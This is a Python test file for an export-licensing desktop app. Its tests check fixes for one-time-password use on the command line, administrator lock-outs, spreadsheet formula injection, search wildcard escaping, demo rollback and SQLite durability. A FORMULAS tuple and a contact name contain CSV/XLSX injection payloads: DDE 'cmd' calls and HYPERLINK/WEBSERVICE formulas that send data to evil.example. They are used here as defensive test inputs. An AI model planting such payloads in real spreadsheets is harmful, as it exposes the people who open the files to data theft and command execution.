"""Issue 13, section 5: the smaller holes, each shown by a test that failed before its fix.

One-time passwords on the command line, the administrator's lock-out, formula-like text in
the annual report's spreadsheets, '%' and '_' in the licence search, SQLite's synchronous
mode for the record.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from att_desktop.cli import main
from att_desktop.cli_context import PASSWORD_ENV
from att_desktop.db.engine import Database, DatabaseError
from att_desktop.db.models import Event, ExchangeRate, User
from att_desktop.db.types import utcnow
from att_desktop.domain.application import LineItemInput, OrganisationInput, PartyInput
from att_desktop.domain.enums import PartyRole, PartyType, Role
from att_desktop.domain.reporting import ReportOptions
from att_desktop.domain.reporting.options import ContactPoint
from att_desktop.formats.report_writers import write_csv, write_xlsx
from att_desktop.services import accounts
from att_desktop.services.accounts import AccountLocked, AuthenticationFailed
from att_desktop.services.demo_accounts import DEMO_PEOPLE
from att_desktop.services.imports import ImportAuthorisationInput, record_import_authorisation
from att_desktop.services.reporting import collect
from att_desktop.services.shipments import find_licences
from tests.accounts_helpers import ADMIN_PASSWORD, PASSWORD, committee
from tests.db.test_reassessment_service import licence_to

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], db_url: str) -> Run:
    """``att-desktop COMMAND ... --db`` this test's database."""

    def invoke(*argv: str) -> tuple[int, str, str]:
        code = main([*argv, "--db", db_url])
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return invoke


# --- 1. a one-time password never works from the command line -------------------------------


def test_every_command_refuses_a_one_time_password(
    db: Database, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before the fix only ``shipment`` checked: ``report rate`` and ``settings`` saved with a
    password an administrator had handed over to be replaced."""
    people = committee(db)
    focal = accounts.add_user(db, people.admin, "newfocal", "New Focal", Role.FOCAL_POINT)
    admin2 = accounts.add_user(db, people.admin, "admin2", "Second Admin", Role.ADMINISTRATOR)
    rate = ("report", "rate", "--year", "2025", "--from", "USD", "--to", "EUR")
    rate_args = (*rate, "--rate", "0.9", "--source", "ECB")
    pattern = ("settings", "--reference-pattern", "{prefix}/{year}/{seq:06d}")

    for username, temporary, args in (
        ("newfocal", focal.temporary_password, rate_args),
        ("admin2", admin2.temporary_password, pattern),
    ):
        monkeypatch.setenv(PASSWORD_ENV, temporary)
        code, _, err = run(*args, "--user", username)
        assert code != 0, (args, err)
        assert "sign in to the app and choose your password first" in err
        assert "must first choose a new password" in err
    with db.session() as session:
        assert session.scalar(select(func.count(ExchangeRate.id))) == 0
        changes = session.scalars(select(Event.action).where(Event.entity == "setting")).all()
    assert changes == []

    # Once the password is chosen, the same command works.
    first = accounts.sign_in(db, "newfocal", focal.temporary_password)
    accounts.change_password(db, first, focal.temporary_password, PASSWORD)
    monkeypatch.setenv(PASSWORD_ENV, PASSWORD)
    code, _, err = run(*rate_args, "--user", "newfocal")
    assert code == 0, err


# --- 2. nobody can lock the administrator out for good --------------------------------------


def _fail(db: Database, username: str, at: object) -> AuthenticationFailed:
    with pytest.raises(AuthenticationFailed) as failed:
        accounts.sign_in(db, username, "not the password", now=at)  # type: ignore[arg-type]
    return failed.value


def test_failed_sign_ins_lock_the_only_administrator_for_a_short_doubling_back_off(
    db: Database,
) -> None:
    """Before the fix, five failures by anyone locked the only administrator for 15 minutes,
    again and again; now the lock is 1, 2, 4... minutes, never more than the cap, and the
    administrator's right password works as soon as the back-off is over."""
    accounts.create_first_admin(db, "admin", "Ana Admin", ADMIN_PASSWORD)
    start = utcnow()
    for second in range(4):
        assert not isinstance(_fail(db, "admin", start + timedelta(seconds=second)), AccountLocked)
    locked = _fail(db, "admin", start + timedelta(seconds=4))
    assert isinstance(locked, AccountLocked)
    assert locked.remaining == timedelta(minutes=1)
    assert "Try again in 1 minute," in str(locked)

    # Each further failure doubles the wait, up to the cap.
    moment = start + timedelta(seconds=4)
    waits = []
    for _ in range(6):
        moment += timedelta(minutes=accounts.ADMIN_BACKOFF_CAP_MINUTES, seconds=1)
        again = _fail(db, "admin", moment)
        assert isinstance(again, AccountLocked)
        waits.append(again.remaining)
    cap = timedelta(minutes=accounts.ADMIN_BACKOFF_CAP_MINUTES)
    assert waits[:2] == [timedelta(minutes=2), timedelta(minutes=4)]
    assert waits[2:] == [cap] * 4 and cap < timedelta(minutes=accounts.DEFAULT_LOCKOUT_MINUTES)

    # While the back-off lasts even the right password waits; then it works.
    with pytest.raises(AccountLocked):
        accounts.sign_in(db, "admin", ADMIN_PASSWORD, now=moment + cap - timedelta(seconds=1))
    assert accounts.sign_in(db, "admin", ADMIN_PASSWORD, now=moment + cap).username == "admin"
    # A successful sign-in starts the count again: the next lock is 1 minute.
    after = moment + cap + timedelta(seconds=1)
    for second in range(5):
        last = _fail(db, "admin", after + timedelta(seconds=second))
    assert isinstance(last, AccountLocked) and last.remaining == timedelta(minutes=1)
    with db.session() as session:
        summaries = session.scalars(
            select(Event.summary).where(Event.action == "account_locked").order_by(Event.id)
        ).all()
    assert summaries[0] == "admin locked for 1 minutes after 5 failed sign-ins"


def test_other_accounts_keep_the_authority_lock_out(db: Database) -> None:
    """The back-off is the administrator's: an officer is still locked for 15 minutes."""
    committee(db)
    start = utcnow()
    for second in range(5):
        last = _fail(db, "officer", start + timedelta(seconds=second))
    assert isinstance(last, AccountLocked)
    assert last.remaining == timedelta(minutes=accounts.DEFAULT_LOCKOUT_MINUTES)
    with db.session() as session:
        user = session.scalars(select(User).where(User.username == "officer")).one()
        assert user.failed_attempts == 0


# --- 3. no live formula in the annual report's files -----------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _item(description: str, comment: str) -> LineItemInput:
    return LineItemInput(
        description,
        Decimal(10),
        att_category="VIII.SA.1",
        control_rating="ML1",
        value=Decimal(1000),
        currency="EUR",
        report_comment=comment,
    )


def test_annual_report_spreadsheets_never_carry_a_live_formula(
    db: Database, tmp_path: Path
) -> None:
    """Before the fix the XLSX wrote descriptions, comments and the point of contact that
    begin with '=' as formulas, and the CSV left tab- and CR-prefixed formulas alive."""
    record_import_authorisation(
        db,
        ImportAuthorisationInput(
            importer=OrganisationInput("National Police", "SE"),
            exporting_code="DE",
            importing_code="SE",
            end_user=PartyInput(PartyRole.END_USER, PartyType.GOVERNMENT, "National Police", "SE"),
            items=tuple(_item(f, FORMULAS[-1 - i]) for i, f in enumerate(FORMULAS)),
            issued_on=date(2025, 11, 3),
            valid_until=date(2026, 11, 2),
        ),
    )
    contact = ContactPoint(name='=WEBSERVICE("http://evil.example")')
    report = collect(db, ReportOptions(year=2025, reporting_state="SE", contact=contact))

    write_xlsx(report, tmp_path / "report.xlsx")
    book = load_workbook(tmp_path / "report.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {str(c.value) for c in cells}
    # The words are kept exactly, as text.
    assert contact.name in texts
    assert any(FORMULAS[0] in t for t in texts)

    write_csv(report, tmp_path / "report.csv")
    with (tmp_path / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    fields = [value for row in rows for value in row.values()]
    for field in fields:
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(field), field
    (row,) = [r for r in rows if r["description"]]
    assert row["description"].startswith("'") and row["comments"].startswith("'")
    assert row["description"][1:].split("; ")[0] in {f.strip() for f in FORMULAS}


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


# --- 4. the licence search takes '%' and '_' as typed ----------------------------------------


def test_licence_search_escapes_like_wildcards(db: Database) -> None:
    """Before the fix '%' found every licence and 'LIC_2026' found 'LIC/2026/00001'."""
    licence_to(db, "BR")
    (found,) = find_licences(db, "lic/2026")
    assert found.number == "LIC/2026/00001"
    assert find_licences(db, "%") == ()
    assert find_licences(db, "LIC_2026") == ()
    assert find_licences(db, "\\") == ()
    assert find_licences(db, "/") != ()


# --- 5. demo: all or nothing -------------------------------------------------------------------


def _rows(db: Database) -> dict[str, int]:
    tables = ("applications", "licences", "events", "users", "agencies", "settings")
    with db.session() as session:
        return {t: session.execute(text(f"SELECT count(*) FROM {t}")).scalar_one() for t in tables}


@pytest.mark.parametrize("where", ["_reporting_settings", "_add_demo_people"])
def test_demo_that_fails_half_way_leaves_the_database_as_it_was(
    db: Database, run: Run, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    """Before the fix each case was committed on its own: a full disk after the cases (the
    rates) or in the accounts left a half-built demo register behind."""
    before = _rows(db)

    def disk_full(*_: object, **__: object) -> None:
        raise DatabaseError("The disk is full.")

    module = "demo" if where == "_reporting_settings" else "demo_accounts"
    monkeypatch.setattr(f"att_desktop.services.{module}.{where}", disk_full)
    code, _, err = run("demo", "--cases", "6")
    assert code == 2 and "The disk is full." in err
    assert _rows(db) == before

    monkeypatch.undo()
    code, out, err = run("demo", "--cases", "6")
    assert code == 0, err
    after = _rows(db)
    assert (
        after["applications"] == 6
        and after["users"] == len(DEMO_PEOPLE)
        and "Added 6 demo cases" in out
    )


# --- 7. the record survives a power cut -------------------------------------------------------


def test_sqlite_commits_with_synchronous_full(db: Database) -> None:
    """NORMAL in WAL mode can lose the last commits on power loss; FULL (2) does not."""
    if db.is_postgres:
        pytest.skip("a SQLite setting")
    with db.session() as session:
        assert session.execute(text("PRAGMA journal_mode")).scalar() == "wal"
        assert session.execute(text("PRAGMA synchronous")).scalar() == 2
